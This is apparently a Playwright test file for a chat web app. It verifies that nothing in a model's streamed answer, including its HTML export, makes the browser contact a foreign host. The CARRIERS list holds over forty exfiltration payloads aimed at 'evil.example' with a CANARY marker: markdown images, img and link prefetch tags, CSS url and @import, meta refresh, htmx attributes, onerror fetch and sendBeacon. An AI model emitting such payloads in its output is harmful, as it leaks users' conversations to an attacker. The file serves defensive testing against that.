"""69: a model that was talked into it cannot carry a word of the conversation out: nothing in an
answer, a question or a title makes the browser ask anybody else for anything, before a click."""

from urllib.parse import urlsplit

from playwright.sync_api import expect

from tests.browser.owner import Enter, equals_a_fresh_page
from tests.browser.talking import answered, send
from tests.support.model_server import Say, ScriptedProvider, reply
from tests.support.server import Server

OUT = "http://127.0.0.1:9/?q=CANARY"
FAR = "https://evil.example/?q=CANARY"
CARRIERS = [
    f"![x]({FAR})",
    f"![x][r]\n\n[r]: {FAR}",
    f"[![x]({FAR})](https://example.org)",
    f"<img src={FAR}>",
    f"<img srcset='{FAR} 2x'>",
    f"<picture><source srcset={FAR}><img></picture>",
    f"<link rel=stylesheet href={FAR}>",
    f"<link rel=prefetch href={FAR}>",
    f"<link rel=dns-prefetch href={FAR}>",
    f"<link rel=preconnect href={FAR}>",
    f"<script src={FAR}></script>",
    f"<iframe src={FAR}></iframe>",
    f"<object data={FAR}></object>",
    f"<embed src={FAR}>",
    f"<video poster={FAR} src={FAR} autoplay></video>",
    f"<audio src={FAR} autoplay></audio>",
    f"<track src={FAR}>",
    f"<input type=image src={FAR}>",
    f"<body background={FAR}>",
    f"<table background={FAR}><td background={FAR}>x</table>",
    f"<div style='background:url({FAR})'>x</div>",
    f"<style>@import '{FAR}'; * {{ background: url({FAR}) }}</style>",
    f"<svg><image href={FAR} xlink:href={FAR} /><use href={FAR} /></svg>",
    f"<svg><style>*{{fill:url({FAR})}}</style></svg>",
    f"<math><mtext><img src={FAR}></mtext></math>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<base href={FAR}>",
    f"<form action={FAR}><input autofocus name=x></form>",
    f"<div hx-get={FAR} hx-trigger=load>x</div>",
    f"<div data-hx-get={FAR} hx-trigger=revealed>x</div>",
    f"<div ws-connect={FAR} hx-ext=ws>x</div>",
    f"<img src=x onerror=\"fetch('{FAR}')\">",
    f"<svg onload=\"navigator.sendBeacon('{FAR}')\">",
    f"<a href={FAR} ping={FAR}>x</a>",
    f"$\\includegraphics{{{FAR}}}$",
    f"$\\href{{{FAR}}}{{x}}$",
    f'![x](//evil.example/?q=CANARY "{FAR}")',
    "![x](\\\\evil.example\\CANARY)",
    f"![x](data:image/svg+xml,%3Csvg%3E%3Cimage%20href='{FAR}'/%3E%3C/svg%3E)",
    f"```html\n<img src={FAR}>\n```",
    f"[^1]\n\n[^1]: ![x]({FAR})",
    f"![x]({OUT})",
    f"<img src={OUT}>",
]


def test_no_word_is_carried_out_of_a_conversation(
    enter: Enter, parley: Server, provider: ScriptedProvider
) -> None:
    """Every foreign request fails the test (`Window`); here also those that are only prepared."""
    assert len(set(CARRIERS)) >= 40
    text = "\n\n".join(CARRIERS)
    # In pieces of seven characters: most carriers are whole only after several frames.
    pieces = [text[at : at + 7] for at in range(0, len(text), 7)]
    provider.script(reply(Say(pieces, ms=2)))
    window = enter(parley)
    asked: list[str] = []
    window.context.on("request", lambda request: asked.append(request.url))
    page = window.open("/")
    send(page, f"{CARRIERS[3]} {text}")
    page.wait_for_url("**/c/**")
    answered(page, 1)
    expect(page.locator("#t")).to_contain_text("CANARY")
    equals_a_fresh_page(window, page)
    page.reload()
    expect(page.locator("#t")).to_contain_text("CANARY")
    # Its export as a page, and the picture of it that a link shows.
    address = page.url.rstrip("/")
    with page.expect_download() as download:
        page.evaluate("address => { location.href = address }", f"{address}/export/html/")
    kept = window.context.new_page()
    kept.on("request", lambda request: asked.append(request.url))
    kept.set_content(download.value.path().read_text("utf-8"), wait_until="networkidle")
    own = urlsplit(parley.url).netloc
    foreign = {url for url in asked if urlsplit(url).netloc not in (own, "")}
    assert foreign == set()
    policies = page.evaluate("document.querySelectorAll('link[rel*=pre], link[rel*=dns]').length")
    assert policies == page.evaluate("document.head.querySelectorAll('link[rel*=pre]').length")
